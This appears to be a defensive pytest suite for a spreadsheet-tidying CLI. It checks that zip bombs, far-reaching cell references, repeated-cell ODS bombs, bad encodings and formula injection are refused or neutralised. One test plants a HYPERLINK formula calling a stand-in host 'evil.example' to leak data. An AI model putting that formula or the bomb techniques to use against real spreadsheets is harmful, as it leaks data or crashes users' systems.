"""`gaffertape sheets` against hostile workbooks: bombs, huge fields, legacy encodings, formulas."""

from __future__ import annotations

import codecs
import re
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from .conftest import (
    far_cell_xlsx,
    gaffertape,
    good_xlsx,
    ods_bomb,
    ods_repeat_bomb,
    unreferenced_cells_xlsx,
)

REPO = Path(__file__).resolve().parents[2]


def test_far_away_cell_is_refused_and_the_rest_of_the_folder_is_written(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    bomb = far_cell_xlsx(folder / "bomb.xlsx")
    good_xlsx(folder / "good.xlsx")
    assert bomb.stat().st_size < 10_000
    run = gaffertape("sheets", "tidy", "in", "--out", "out.csv", cwd=tmp_path)
    assert run.returncode == 1, run.stderr  # not 134 (a Rust out-of-memory abort)
    assert len(run.errors) == 1 and "bomb.xlsx (sheet 'Far away'): refused" in run.errors[0]
    assert "17,179,869,184 cells" in run.errors[0]
    out = pd.read_csv(tmp_path / "out.csv", encoding="utf-8-sig")
    assert len(out) == 6 and set(out["source_file"].map(lambda p: Path(p).name)) == {"good.xlsx"}


def test_ods_zip_bomb_is_refused_before_it_is_inflated(tmp_path: Path) -> None:
    bomb = ods_bomb(tmp_path / "bomb.ods")
    assert bomb.stat().st_size < 1024**2  # 64 MB of XML in well under 1 MB
    run = gaffertape("sheets", "tidy", "bomb.ods", "--out", "out.parquet", cwd=tmp_path)
    assert run.returncode == 1
    assert len(run.errors) == 1 and "bomb.ods: refused: content.xml inflates" in run.errors[0]
    assert "Traceback" not in run.stderr and not (tmp_path / "out.parquet").exists()


def test_cells_without_references_that_reach_far_are_refused(tmp_path: Path) -> None:
    """Cells need no ``r`` attribute: a check that only read references let this file
    through, and calamine aborted the run allocating 1.6 billion cells."""
    bomb = unreferenced_cells_xlsx(tmp_path / "unreferenced.xlsx")
    good_xlsx(tmp_path / "good.xlsx")
    assert bomb.stat().st_size < 1024**2
    run = gaffertape("sheets", "tidy", "unreferenced.xlsx", "good.xlsx", "--out", "out.csv",
                     cwd=tmp_path)
    assert run.returncode == 1, run.stderr  # not 134 (a Rust out-of-memory abort)
    assert len(run.errors) == 1
    assert "unreferenced.xlsx (sheet 'Far away'): refused: a value as far as row 100,001, "\
           "column 16,384" in run.errors[0]
    assert len(pd.read_csv(tmp_path / "out.csv", encoding="utf-8-sig")) == 6


@pytest.mark.parametrize("repeat", ["before", "after"])
def test_ods_repeated_cell_bomb_is_refused(tmp_path: Path, repeat: str) -> None:
    """Refused wherever the repeat stands in the cell's tag (written after the value type, on
    the last value, the quick bound once missed it and calamine aborted)."""
    ods_repeat_bomb(tmp_path / "repeat.ods", repeat)  # calamine alone aborts (4 GB allocation)
    good_xlsx(tmp_path / "good.xlsx")
    run = gaffertape("sheets", "tidy", "repeat.ods", "good.xlsx", "--out", "out.csv",
                     cwd=tmp_path)
    assert run.returncode == 1, run.stderr
    assert len(run.errors) == 1
    assert "repeat.ods (sheet 'Repeated'): refused: repeated cells" in run.errors[0]
    assert len(pd.read_csv(tmp_path / "out.csv", encoding="utf-8-sig")) == 6


def test_sheet_formatted_down_to_the_last_row_is_still_read(tmp_path: Path) -> None:
    from openpyxl.styles import Font

    from gaffertape.sheets import api

    path = good_xlsx(tmp_path / "formatted.xlsx")
    book = openpyxl.load_workbook(path)
    book["Data"].cell(1_048_576, 26).font = Font(bold=True)  # a style, no value
    book.save(path)
    assert len(api.tidy_file(path)) == 6


def test_csv_field_over_128_kib_is_read(tmp_path: Path) -> None:
    long_text = "x" * (300 * 1024)
    (tmp_path / "big.csv").write_text(f'Region,2019,Note\nNorth,1,"{long_text}"\nSouth,2,\n')
    run = gaffertape("sheets", "tidy", "big.csv", "--out", "out.parquet", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    out = duckdb.read_parquet(str(tmp_path / "out.parquet")).df()
    assert {"1", "2"} <= set(out["raw"].dropna()) | {str(int(v)) for v in out["value"].dropna()}
    # kept, as a value's text or (a text column of a tidy table) in its row key, and cut to
    # Excel's limit on a cell's text with a warning (a label is copied into many observations)
    kept = [*out["raw"].dropna(), *out["row_header"].dropna().str.split(" | ", regex=False).sum()]
    assert long_text[:32_767] in kept and long_text not in kept
    assert "cut to that length, the first at C2" in run.stderr


def test_latin1_and_utf16_csvs_are_decoded_not_mangled(tmp_path: Path) -> None:
    text = "Région,2019,2020\nÎle-de-France,12,13\nProvence-Alpes-Côte d'Azur,5,6\n"
    (tmp_path / "latin1.csv").write_bytes(text.encode("latin-1"))
    (tmp_path / "utf16.csv").write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    (tmp_path / "cp1252.csv").write_bytes(text.replace("Région", "Région – total")
                                          .encode("cp1252"))
    # a byte-order mark saved twice (HESA's exports): neither may stick to the first cell
    (tmp_path / "twobom.csv").write_bytes(2 * codecs.BOM_UTF8 + ("Title:,Regions\n" * 3
                                                                 + "\n" + text).encode())
    run = gaffertape("sheets", "tidy", "latin1.csv", "utf16.csv", "cp1252.csv", "twobom.csv",
                     "--out", "out.csv", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    out = pd.read_csv(tmp_path / "out.csv", encoding="utf-8-sig")
    labels = set(out["row_header"])
    assert labels == {"Île-de-France", "Provence-Alpes-Côte d'Azur"}
    assert not out.astype(str).apply(lambda c: c.str.contains("\ufffd|\ufeff")).any().any()
    assert len(out) == 16


def test_binary_junk_named_csv_is_refused_naming_the_file(tmp_path: Path) -> None:
    (tmp_path / "junk.csv").write_bytes(bytes(range(256)) * 64)
    good_xlsx(tmp_path / "good.xlsx")
    run = gaffertape("sheets", "tidy", "junk.csv", "good.xlsx", "--out", "out.csv", cwd=tmp_path)
    assert run.returncode == 1 and "Traceback" not in run.stderr
    assert len(run.errors) == 1 and run.errors[0].startswith("error: junk.csv: cannot tell its "
                                                             "text encoding")
    assert len(pd.read_csv(tmp_path / "out.csv", encoding="utf-8-sig")) == 6  # the others go on


def test_failed_run_never_replaces_good_output(tmp_path: Path) -> None:
    good_xlsx(tmp_path / "good.xlsx")
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
    assert gaffertape("sheets", "tidy", "good.xlsx", "--out", "out.csv", cwd=tmp_path) \
        .returncode == 0
    before = (tmp_path / "out.csv").read_bytes()

    failed = gaffertape("sheets", "tidy", "broken.xlsx", "--out", "out.csv", cwd=tmp_path)
    assert failed.returncode == 1 and "broken.xlsx" in failed.errors[0]
    assert "nothing written" in failed.stderr
    assert (tmp_path / "out.csv").read_bytes() == before  # not a header-only file

    partial = gaffertape("sheets", "tidy", "good.xlsx", "broken.xlsx", "--out", "out.csv",
                         cwd=tmp_path)
    assert partial.returncode == 1
    assert (tmp_path / "out.csv").read_bytes() == before
    assert len(pd.read_csv(tmp_path / "out.partial.csv", encoding="utf-8-sig")) == 6
    assert not list(tmp_path.glob(".*.part"))


def test_bad_output_suffix_fails_before_reading(tmp_path: Path) -> None:
    run = gaffertape("sheets", "tidy", "missing.xlsx", "--out", "out.json", cwd=tmp_path)
    assert run.returncode == 2 and "out.json: unknown output format" in run.errors[0]


def test_xlsx_output_and_formulas_made_inert(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Marker", "2019", "2020"])
    sheet.append(['=HYPERLINK("http://evil.example/?leak=1","click")', 1, 2])
    sheet.append(["@SUM(A1)", 3, "-2+3"])
    sheet["A2"].data_type = "s"  # text that looks like a formula, as a remote site would send
    book.save(tmp_path / "hostile.xlsx")
    for out in ("out.xlsx", "out.csv"):
        run = gaffertape("sheets", "tidy", "hostile.xlsx", "--out", out, cwd=tmp_path)
        assert run.returncode == 0, run.stderr
    written = openpyxl.load_workbook(tmp_path / "out.xlsx")["observations"]
    cells = [c for row in written.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells)
    texts = {c.value for c in cells}
    assert "'=HYPERLINK(\"http://evil.example/?leak=1\",\"click\")" in texts
    assert not any(re.match(r"[=+\-@]", t) for t in texts)
    csv_text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert not any(re.match(r'"?[=+\-@]', field) for line in csv_text.splitlines()
                   for field in line.split(","))


def test_cells_not_emitted_are_counted_per_file_and_in_the_summary(tmp_path: Path) -> None:
    good_xlsx(tmp_path / "good.xlsx")
    run = gaffertape("sheets", "tidy", "good.xlsx", "--out", "out.csv", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    # 13 filled cells: 6 observations; the title; "Region" and the 2 years; 3 region labels
    assert re.search(r"cells not emitted\s+│ 7 \(header 3, row label 3, title 1\)", run.stderr)
    assert re.search(r"good\.xlsx\s+│ 13\s+│ 6\s+│ 3\s+│ 3\s+│ 0\s+│ 1\s+│ 0\s+│ 0", run.stderr)


def test_parquet_recipe_in_the_docs_reads_the_output(tmp_path: Path) -> None:
    good_xlsx(tmp_path / "good.xlsx")
    assert gaffertape("sheets", "tidy", "good.xlsx", "--out", "data.parquet",
                      cwd=tmp_path).returncode == 0
    docs = (REPO / "docs" / "sheets.md").read_text()
    recipe = re.search(r"```python\n(import duckdb\n.*?)```", docs, re.S)
    assert recipe, "docs/sheets.md shows how to read the Parquet output without pyarrow"
    scope: dict[str, object] = {}
    cwd = Path.cwd()
    try:
        import os

        os.chdir(tmp_path)
        exec(recipe[1], scope)  # the recipe exactly as documented
    finally:
        os.chdir(cwd)
    data = scope["data"]
    assert isinstance(data, pd.DataFrame) and len(data) == 6
    assert data.value_flags.eq("").all()  # attribute access reaches the column


def test_references_beyond_excel_limits_are_refused_in_process(tmp_path: Path) -> None:
    """Hand-edited sheet XML: a row number past 1,048,576 must not slip under the checks."""
    import zipfile

    import pytest

    from gaffertape.errors import UserError
    from gaffertape.sheets import api

    source = good_xlsx(tmp_path / "good.xlsx")
    for ref in ("A99999999", "ZZZZ99999"):
        hostile = tmp_path / f"{ref}.xlsx"
        with zipfile.ZipFile(source) as zin, zipfile.ZipFile(hostile, "w") as zout:
            for info in zin.infolist():
                data = zin.read(info)
                if info.filename == "xl/worksheets/sheet1.xml":
                    row = "".join(ch for ch in ref if ch.isdigit())
                    data = data.replace(b"</sheetData>", f'<row r="{row}"><c r="{ref}"><v>1</v>'
                                        f"</c></row></sheetData>".encode())
                zout.writestr(info, data)
        with pytest.raises(UserError, match=rf"{ref}.xlsx \(sheet 'Data'\): refused"):
            api.tidy_file(hostile)
